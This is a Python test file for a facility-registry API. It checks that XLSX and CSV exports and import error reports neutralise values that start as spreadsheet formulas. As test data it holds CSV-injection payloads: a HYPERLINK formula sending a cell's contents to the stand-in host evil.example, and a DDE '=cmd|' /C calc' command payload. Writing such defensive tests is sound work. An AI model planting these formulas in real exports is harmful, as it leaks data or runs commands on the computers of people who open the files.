"""Text that starts as a spreadsheet formula (=HYPERLINK(...), +86 ..., @SUM) leaves in
exports as text that no spreadsheet runs, and imports back as it was stored."""

import csv
import io
import zipfile
from datetime import date

from tests.exports.test_workbook import sheets

NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
OWNER = "+86 0551 人防产权单位"


def test_a_formula_in_a_workbook_is_a_text_cell_and_imports_back(client, create):
    facility = create(name=NAME, owner_unit=OWNER)
    first = client.get("/v1/export", params={"format": "xlsx", "code": facility["code"]})
    assert first.status_code == 200, first.text
    with zipfile.ZipFile(io.BytesIO(first.content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    header, row = sheets(first.content)["设施"]
    assert dict(zip(header, row, strict=True))["工程名称"] == NAME
    job = _import(client, "台账.xlsx", first.content)
    assert (job["status"], job["summary"]["unchanged"]) == ("succeeded", 1), job
    second = client.get("/v1/export", params={"format": "xlsx", "code": facility["code"]})
    assert sheets(second.content) == sheets(first.content)


def test_a_formula_in_a_csv_export_is_quoted_as_text_and_imports_back(client, create):
    facility = create(name=NAME, owner_unit=OWNER)
    first = client.get("/v1/export", params={"format": "csv", "code": facility["code"]})
    assert first.status_code == 200, first.text
    (row,) = csv.DictReader(io.StringIO(first.content.decode("utf-8-sig")))
    assert row["name"] == "'" + NAME and row["owner_unit"] == "'" + OWNER
    assert row["capacity_persons"] == "8000"
    job = _import(client, "facilities.csv", first.content)
    assert (job["status"], job["summary"]["unchanged"]) == ("succeeded", 1), job
    stored = client.get(f"/v1/facilities/{facility['id']}").json()
    assert (stored["name"], stored["owner_unit"]) == (NAME, OWNER)
    second = client.get("/v1/export", params={"format": "csv", "code": facility["code"]})
    assert second.content == first.content


def test_a_files_formula_is_quoted_in_the_error_report(client):
    body = "工程编号,工程名称,掩蔽人数\nRF-T-F1,工程,=cmd|' /C calc'!A0\n".encode()
    job = _import(client, "台账.csv", body)
    assert job["status"] == "rejected", job
    report = client.get(f"/v1/imports/{job['id']}/errors")
    lines = list(csv.reader(io.StringIO(report.text)))
    values = [line[2] for line in lines[1:]]
    assert "'=cmd|' /C calc'!A0" in values, lines
    assert not any(v.startswith(("=", "+", "-", "@")) for line in lines for v in line)


def test_names_that_start_as_formulas_are_quoted_in_the_overdue_csv(client_for, create):
    facility = create(name="@SUM(1+1)*cmd")
    manager = client_for("manager", facility_ids=[facility["id"]])
    # Never checked: every item falls overdue within three years of registration.
    far = date(date.today().year + 3, 1, 1).isoformat()
    response = manager.get("/v1/maintenance/overdue", params={"f": "csv", "on": far})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows and {r["name"] for r in rows} == {"'@SUM(1+1)*cmd"}


def _import(client, filename: str, content: bytes) -> dict:
    created = client.post("/v1/imports", params={"filename": filename}, content=content)
    assert created.status_code == 202, created.text
    return client.get(f"/v1/imports/{created.json()['id']}").json()
